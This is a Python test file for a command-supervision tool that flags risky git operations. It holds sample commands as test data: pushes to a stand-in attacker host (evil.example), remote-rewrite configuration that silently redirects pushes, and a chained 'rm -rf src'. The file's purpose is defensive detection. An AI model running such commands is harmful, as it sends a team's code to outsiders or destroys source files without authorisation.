"""The repository as it was when the session began: a push elsewhere and a commit elsewhere are facts."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from leashtui.classify.engine import Engine
from leashtui.classify.probe import NoProbe
from leashtui.classify.workspace import Pins, Workspace
from leashtui.model.facts import Facts
from leashtui.model.request import Mode
from leashtui.supervisor.repository import RepositoryProbe

ROOT = "/home/dev/proj"
URL = "git@code.example:team/app.git"


class Now(NoProbe):
    """What the repository says by now."""

    def __init__(self, branch: str = "feature", **settings: str) -> None:
        self.branch = branch
        self.settings = {k.replace("_", "."): v for k, v in settings.items()}

    def git_config(self, key: str) -> str | None:
        """See Probe."""
        return self.settings.get(key)

    def remote_address(self, remote: str) -> str | None:
        """See Probe."""
        return self.settings.get(f"remote.{remote}.pushurl") or self.settings.get(f"remote.{remote}.url")

    def read_text(self, path: str) -> str | None:
        """See Probe."""
        return f"ref: refs/heads/{self.branch}\n" if path.endswith("/.git/HEAD") else None


def facts(command: str, now: Now, pins: Pins | None) -> Facts:
    engine = Engine(Workspace(ROOT, pins=pins), "/home/dev", "dev", Mode.KERNEL, now)
    return engine.text(command, ROOT)


PINS = Pins((("origin", URL), ("fork", "git@code.example:me/app.git")), "feature", ("next",))


@pytest.mark.parametrize(
    ("command", "now", "changed"),
    [
        ("git push", Now(remote_origin_url=URL), False),
        ("git push origin feature", Now(remote_origin_url=URL), False),
        ("git push fork feature", Now(remote_fork_url="git@code.example:me/app.git"), False),
        (f"git push {URL} feature", Now(remote_origin_url=URL), False),
        ("git push origin feature", Now(remote_origin_url="https://evil.example/x.git"), True),
        ("git push origin feature", Now(remote_origin_url=URL, remote_origin_pushurl="https://evil.example/x"), True),
        ("git push mine feature", Now(remote_mine_url="https://evil.example/x.git"), True),
        ("git push https://evil.example/x.git feature", Now(remote_origin_url=URL), True),
        ("git remote set-url origin https://evil.example/x && git push origin feature", Now(), True),
        ("git remote add mine https://evil.example/x; git push mine", Now(), True),
    ],
)
def test_a_push_elsewhere(command: str, now: Now, changed: bool) -> None:
    assert facts(command, now, PINS).remote_changed is changed


def test_nothing_pinned_is_nothing_changed() -> None:
    assert not facts("git push mine", Now(remote_mine_url="https://x.example/y"), None).remote_changed


@pytest.mark.parametrize(
    ("command", "branch", "protected"),
    [
        ("git push", "feature", False),
        ("git push -f", "main", True),
        ("git push", "next", True),
        ("git push origin next", "feature", True),
        ("git push origin HEAD:next", "feature", True),
        ("git push origin feature", "main", False),
    ],
)
def test_the_branch_that_others_build_on(command: str, branch: str, protected: bool) -> None:
    assert facts(command, Now(branch, remote_origin_url=URL), PINS).git_protected is protected


@pytest.mark.parametrize(
    ("command", "other"),
    [
        ("git commit -m x", False),
        ("git -C sub commit -m x", False),
        ("git -C ../other commit -m x", True),
        ("cd ../other && git commit -am x", True),
        ("git --git-dir=/home/dev/other/.git commit -m x", True),
        ("git -C ../other log", False),
        ("git -C /tmp/scratch commit -m x", True),
    ],
)
def test_a_commit_in_another_checkout(command: str, other: bool) -> None:
    assert facts(command, Now(), PINS).other_checkout is other


def test_no_program_takes_the_shell_along() -> None:
    found = facts("git -C /tmp status; make -C /tmp; rm -rf src", Now(), PINS)
    assert "delete:source" in found.touches()


def test_what_is_pinned_is_read_from_the_repository(tmp_path: Path) -> None:
    def git(*words: str) -> None:
        identity = ("-c", "user.name=x", "-c", "user.email=x@example.com")
        subprocess.run(["git", *identity, *words], cwd=tmp_path / "main", check=True, capture_output=True)

    main = tmp_path / "main"
    main.mkdir()
    assert RepositoryProbe(str(main)).pinned() is None
    git("init", "-q", "-b", "work")
    git("commit", "-q", "--allow-empty", "-m", "x")
    git("remote", "add", "origin", URL)
    git("remote", "add", "fork", "https://code.example/me")
    git("config", "remote.fork.pushurl", "git@code.example:me")
    git("symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/next")
    expected = (("origin", URL), ("fork", "git@code.example:me"))
    assert RepositoryProbe(str(main)).pinned() == Pins(expected, "work", ("next",))
    git("worktree", "add", "-q", "-b", "side", str(tmp_path / "side"))
    assert RepositoryProbe(str(tmp_path / "side")).pinned() == Pins(expected, "side", ("next",))
    assert RepositoryProbe(str(tmp_path / "side")).git_config("remote.origin.url") == URL
    assert RepositoryProbe(str(main)).read_text(str(main)) is None


def test_a_rule_that_rewrites_addresses_is_another_address(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Compared with what git itself says of the same files."""
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)

    def git(*words: str) -> str:
        done = subprocess.run(["git", *words], cwd=tmp_path / "main", check=True, capture_output=True, text=True)
        return done.stdout.strip()

    (tmp_path / "main").mkdir()
    git("init", "-q", "-b", "work")
    git("remote", "add", "origin", "https://code.example/team/app.git")
    probe = RepositoryProbe(str(tmp_path / "main"))
    pins = probe.pinned()
    assert pins is not None and dict(pins.remotes)["origin"] == git("remote", "get-url", "--push", "origin")

    def pushes_elsewhere(command: str) -> bool:
        root = str(tmp_path / "main")
        return (
            Engine(Workspace(root, pins=pins), str(tmp_path), "dev", Mode.KERNEL, probe)
            .text(command, root)
            .remote_changed
        )

    assert not pushes_elsewhere("git push origin work")
    for scope, key in (("--local", "pushInsteadOf"), ("--global", "insteadOf")):
        git("config", scope, f"url.https://Evil.example/.{key}", "https://code.example/")
        assert probe.remote_address("origin") == git("remote", "get-url", "--push", "origin")
        assert pushes_elsewhere("git push origin work")
        assert pushes_elsewhere("git push https://code.example/team/app.git work")
        git("config", scope, "--unset", f"url.https://Evil.example/.{key}")
    assert not pushes_elsewhere("git push origin work")
